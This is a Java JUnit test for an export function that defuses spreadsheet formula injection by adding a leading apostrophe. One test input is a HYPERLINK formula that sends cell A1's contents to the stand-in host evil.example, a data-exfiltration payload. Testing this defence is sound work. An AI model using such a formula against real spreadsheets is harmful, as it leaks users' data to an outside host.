package io.spotcheck.publication;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class FormulaNeutralisingTest {

    @Test
    void textASpreadsheetWouldRunAsAFormulaGetsALeadingApostrophe() {
        assertThat(PublicationExport.inert("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")");
        assertThat(PublicationExport.inert("+1")).isEqualTo("'+1");
        assertThat(PublicationExport.inert("-1+2")).isEqualTo("'-1+2");
        assertThat(PublicationExport.inert("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(PublicationExport.inert("\t=1")).isEqualTo("'\t=1");
    }

    @Test
    void ordinaryTextIsExportedAsStored() {
        assertThat(PublicationExport.inert("杭州某某餐饮有限公司")).isEqualTo("杭州某某餐饮有限公司");
        assertThat(PublicationExport.inert("a=b")).isEqualTo("a=b");
        assertThat(PublicationExport.inert("")).isEqualTo("");
    }
}
